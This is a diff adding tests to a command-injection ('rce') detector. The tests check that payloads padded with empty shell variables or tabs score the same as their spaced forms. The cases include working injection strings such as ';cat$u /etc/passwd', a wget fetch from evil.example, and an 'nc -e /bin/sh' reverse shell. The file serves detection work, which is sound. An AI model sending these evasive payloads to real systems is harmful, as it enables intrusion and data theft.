@@ -190,6 +190,20 @@ describe("rce detector", () => {
       expect(rceScore(input)).toBeLessThan(5);
     });
   }
+  // An empty variable pads a command word the way a blank does, and a tab is a blank to the shell: each
+  // spelling with tabs scores as the one with spaces (`$garb pizza`, no command, stays below in both).
+  it.each([
+    [";cat$u /etc/passwd", true], ["|id$x ", true], ["a;$x wget http://evil.example/x -O /tmp/x", true],
+    ["1|$garb nc -e /bin/sh 10.0.0.1 4444", true], ["x&&$u uname -a", true], [";${x} id", true], [";ping$x -c 3 127.0.0.1", true],
+    ["$garb pizza", false], ["a;$garb pizza", false], ["price $5 each", false],
+  ])("scores %j with tabs for its blanks as with spaces", (spaced, attack) => {
+    const tabbed = spaced.replace(/ /g, "\t");
+    const padTab = spaced.replace(/(\$\w+|\$\{x\}) /, "$1\t");
+    expect(rceScore(spaced) >= 5).toBe(attack);
+    expect(rceScore(tabbed)).toBe(rceScore(spaced));
+    expect(rceScore(padTab)).toBe(rceScore(spaced));
+  });
+
   it("blocks a lone recon command in a header but not a lone word in a field", () => {
     expect(rceScore("visudo", HEADER)).toBeGreaterThanOrEqual(5);
     expect(rceScore("lastlogin", ARG)).toBeLessThan(5);
